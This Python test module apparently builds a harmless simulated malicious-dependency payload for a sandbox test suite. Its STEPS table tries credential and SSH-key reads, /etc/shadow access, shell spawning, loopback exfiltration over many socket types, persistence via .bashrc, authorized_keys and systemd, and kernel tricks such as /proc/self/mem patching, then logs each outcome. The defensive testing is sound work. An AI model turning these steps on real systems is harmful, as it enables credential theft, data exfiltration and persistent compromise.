"""What a turned dependency would do, harmless: it reads canaries, dials loopback, leaves marks in temporary folders.

Planted as text in a dependency (`planted`), with `reach.py` and `ways.py`: the standard library alone. Each step
returns what it got, or fails; `run` writes all outcomes as one line of JSON to standard error.
"""

import asyncio
import ctypes
import errno
import fcntl
import importlib.machinery
import json
import mmap
import os
import re
import socket
import struct
import sys
from collections.abc import Callable
from pathlib import Path

from tests.replay import reach, ways
from tests.replay.reach import (
    TARGETS,
    a_thread,
    become,
    by_system,
    call,
    descriptors,
    environment,
    fork_exec,
    forked,
    handle,
    home,
    memory_program,
    objects,
    own_environ,
    own_memory,
    port,
    python,
    read,
    shell,
    spawned,
    written,
)
from tests.replay.ways import (
    FASTOPEN,
    addressed,
    backdoor,
    by_libc,
    by_loop,
    connected,
    datagram,
    fast_open,
    fast_open_connect,
    linked,
    listener_turned,
    mode,
    opened,
    own_bytecode,
    own_code,
    post,
    renamed,
    sent_by,
    unix_abstract,
    unix_path,
)

MARK = "REPLAY "
_DONE: set[str] = set()
_OWN = re.compile(r"^from tests\.replay[^\n(]*(?:\([^)]*\))?\n", re.MULTILINE)


# -- code and kernel -----------------------------------------------------------------------------------------


def _writable_code() -> str:
    mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC).close()
    return "memory that can be written and run"


def _made_executable() -> str:
    library = ctypes.CDLL(None, use_errno=True)
    library.mmap.restype = ctypes.c_void_p
    at = library.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))
    if library.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), 5) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "memory made executable"


def _library() -> str:
    """Load a library that was dropped: here a copy of one of the interpreter's."""
    path = TARGETS["library"]
    loader = importlib.machinery.ExtensionFileLoader("_testreplay", path)
    ctypes.CDLL(path)
    return f"loaded {Path(loader.path).name}"


def _library_in_memory() -> str:
    fd = os.memfd_create("library")
    with open(TARGETS["library"], "rb") as source:  # noqa: PTH123
        os.write(fd, source.read())
    ctypes.CDLL(f"/proc/self/fd/{fd}")
    return "loaded from memory"


def _patched() -> str:
    buffer = ctypes.create_string_buffer(b"safe")
    with open("/proc/self/mem", "r+b", buffering=0) as memory:  # noqa: PTH123
        memory.seek(ctypes.addressof(buffer))
        memory.write(b"EVIL")
    return f"patched itself: {buffer.value!r}"


def _signal() -> str:
    os.kill(int(TARGETS["outsider"]), 0)
    return "may signal it"


def _neighbour_memory() -> str:
    local = ctypes.create_string_buffer(8)
    vector = struct.pack("=QQ", ctypes.addressof(local), 8)
    own = ctypes.create_string_buffer(vector, 16)
    return call(310, int(TARGETS["outsider"]), ctypes.addressof(own), 1, ctypes.addressof(own), 1, 0)


def _core() -> str:
    import resource  # noqa: PLC0415 - not part of every build

    resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 1 << 20))
    return "core files would be written"


def _dumpable() -> str:
    answer = call(157, 4, 1, 0, 0, 0)
    call(157, 4, 0, 0, 0, 0)
    return answer


def _loopback6() -> str:
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(1)
        sock.connect(("::1", int(TARGETS["tcp6"])))
        sock.send(b"EXFIL")
    return "sent"


def _terminal() -> str:
    """Type into the terminal it was started from (TIOCSTI)."""
    try:
        fcntl.ioctl(2, 0x5412, b"x")
    except OSError as error:
        if error.errno in {errno.EPERM, errno.EACCES}:
            raise
    return "was let through"


def _tcp(way: Callable[[socket.socket], object]) -> Callable[[], str]:
    return lambda: listener_turned(way)


# name: (kind, what it does)
STEPS: dict[str, tuple[str, Callable[[], str]]] = {
    "SSH key": ("read", lambda: read(home(".ssh/id_ed25519"))),
    "cloud credentials (~/.aws)": ("read", lambda: read(home(".aws/credentials"))),
    "cloud credentials (gcloud)": ("read", lambda: read(home(".config/gcloud/application_default_credentials.json"))),
    "Kubernetes token": ("read", lambda: read(TARGETS["token"])),
    "shell history": ("read", lambda: read(home(".bash_history"))),
    ".env and Git credentials": ("read", lambda: read(home(".env")) + read(home(".git-credentials"))),
    "a canary by way of /proc/self/root": ("read", lambda: read(f"/proc/self/root{home('.ssh/id_ed25519')}")),
    "list the home folder": ("read", lambda: f"listed {len(os.listdir(TARGETS['home']))}"),  # noqa: PTH208
    "/etc/shadow": ("read", lambda: read("/etc/shadow")),
    "the configuration file": ("read", lambda: read(TARGETS["config"])),
    "environment (os.environ)": ("read", environment),
    "environment (/proc/self/environ)": ("read", own_environ),
    "another process's environment": ("read", lambda: read(f"/proc/{TARGETS['outsider']}/environ")),
    "list processes": ("read", lambda: f"listed {len(os.listdir('/proc'))}"),  # noqa: PTH208
    "provider key: Python's objects": ("read", objects),
    "provider key: own memory": ("read", own_memory),
    "provider key: open descriptors": ("read", descriptors),
    "a file by its handle": ("read", handle),
    "shell (subprocess)": ("spawn", shell),
    "os.system": ("spawn", by_system),
    "python again (the fork bomb of 2026)": ("spawn", python),
    "posix_spawn": ("spawn", spawned),
    "fork": ("spawn", forked),
    "_posixsubprocess.fork_exec": ("spawn", fork_exec),
    "exec": ("spawn", become),
    "a program in memory (memfd)": ("spawn", memory_program),
    "a thread from before the seal": ("spawn", a_thread),
    "TCP": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 0, port())),
    "TCP over IPv6": ("exfil", _loopback6),
    "metadata service (stand-in)": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 0, port("metadata"))),
    "an event loop's connect": ("exfil", by_loop),
    "HTTP POST (urllib)": ("exfil", post),
    "connect by the C library": ("exfil", by_libc),
    "UDP": ("exfil", datagram),
    "UDP, connected": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_DGRAM, 0, port("udp"))),
    "TCP fast open": ("exfil", fast_open),
    "TCPFASTOPEN_CONNECT": ("exfil", fast_open_connect),
    "MPTCP": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 262, port())),
    "listener, shutdown, sendto fast open": ("exfil", _tcp(lambda s: s.sendto(b"EXFIL", FASTOPEN, port()))),
    "listener, shutdown, sendmsg fast open": (
        "exfil", _tcp(lambda s: s.sendmsg([b"EXFIL"], [], FASTOPEN, port())),
    ),
    "listener, shutdown, connect": ("exfil", _tcp(connected)),
    "raw socket": ("exfil", lambda: opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "packet socket": ("exfil", lambda: opened(socket.AF_PACKET, socket.SOCK_RAW)),
    "netlink": ("exfil", lambda: opened(socket.AF_NETLINK, socket.SOCK_RAW)),
    "vsock": ("exfil", lambda: opened(socket.AF_VSOCK, socket.SOCK_STREAM)),
    "docker.sock": ("exfil", unix_path),
    "abstract UNIX socket": ("exfil", unix_abstract),
    "datagram to a UNIX path": ("exfil", addressed),
    "back door (bind, listen)": ("exfil", backdoor),
    "~/.config/sysmon/sysmon.py": ("persist", lambda: written(home(".config/sysmon/sysmon.py"))),
    "systemd user unit": ("persist", lambda: written(home(".config/systemd/user/sysmon.service"))),
    "~/.bashrc": ("persist", lambda: written(home(".bashrc"))),
    "authorized_keys": ("persist", lambda: written(home(".ssh/authorized_keys"))),
    "a .pth in site-packages": ("persist", lambda: written(Path(TARGETS["site"]) / "replay_again.pth", "")),
    "own source (egress)": ("persist", own_code),
    "own byte code (egress)": ("persist", own_bytecode),
    "a file in /tmp": ("persist", lambda: written(Path(TARGETS["marks"]) / f"dropped-{os.getpid()}")),
    "a file in /dev/shm": ("persist", lambda: written(Path(TARGETS["shm"]) / f"dropped-{os.getpid()}")),
    "rename a file": ("persist", renamed),
    "change a file's mode": ("persist", mode),
    "a symbolic link": ("persist", linked),
    "writable and executable memory": ("code", _writable_code),
    "memory made executable": ("code", _made_executable),
    "a dropped library": ("code", _library),
    "a library in memory": ("code", _library_in_memory),
    "patch itself (/proc/self/mem)": ("code", _patched),
    "signal another process": ("kernel", _signal),
    "another process's memory": ("kernel", _neighbour_memory),
    "ptrace": ("kernel", lambda: call(101, 16, int(TARGETS["outsider"]), 0, 0)),
    "pidfd_open": ("kernel", lambda: call(434, int(TARGETS["outsider"]), 0)),
    "io_uring": ("kernel", lambda: call(425, 1, 0)),
    "user namespace": ("kernel", lambda: call(272, -1)),
    "enter a namespace": ("kernel", lambda: call(308, -1, 0)),
    "mount": ("kernel", lambda: call(165, 0, 0, 0, 0, 0)),
    "chroot": ("kernel", lambda: call(161, 0)),
    "bpf": ("kernel", lambda: call(321, -1, 0, 0)),
    "perf events": ("kernel", lambda: call(298, 0, 0, -1, -1, 0)),
    "userfaultfd": ("kernel", lambda: call(323, -1)),
    "kernel keys (keyctl)": ("kernel", lambda: call(250, 0, -3, 0, 0, 0)),
    "clone3": ("kernel", lambda: call(435, 0, 0)),
    "type into the terminal": ("kernel", _terminal),
    "core files": ("kernel", _core),
    "memory open to others (dumpable)": ("kernel", _dumpable),
}  # fmt: skip


def run(when: str) -> None:
    """Take every step once and tell how each went: `{"when", "who", "steps": {name: [got, what]}}`."""
    if when in _DONE:
        return
    _DONE.add(when)
    outcome: dict[str, tuple[bool, str]] = {}
    running = asyncio._get_running_loop()
    for name, (_, step) in STEPS.items():
        try:
            outcome[name] = (True, str(step()).strip()[:80])
        except BaseException as error:  # noqa: BLE001 - whatever happens is what is told
            outcome[name] = (False, f"{type(error).__name__}: {error}"[:80])
        asyncio._set_running_loop(running)
    told = {"when": when, "who": _who(), "pid": os.getpid(), "steps": outcome}
    line = f"\n{MARK}{json.dumps(told)}\n".encode()
    while line:
        line = line[os.write(2, line) :]


def _who() -> str:
    """Return the role of this process, by its command line."""
    words = sys.argv
    roles = {"edge", "egress", "control", "recorder"}
    return next((word for word in words if word in roles), "supervisor")


def planted(targets: dict[str, str]) -> str:
    """Return the payload as the text of one module, with `targets` in it."""
    files = (reach.__file__, ways.__file__, __file__)
    text = "\n".join(_OWN.sub("", Path(str(file)).read_text(encoding="utf-8")) for file in files)
    return text.replace("TARGETS: dict[str, str] = {}", f"TARGETS: dict[str, str] = {targets!r}", 1)
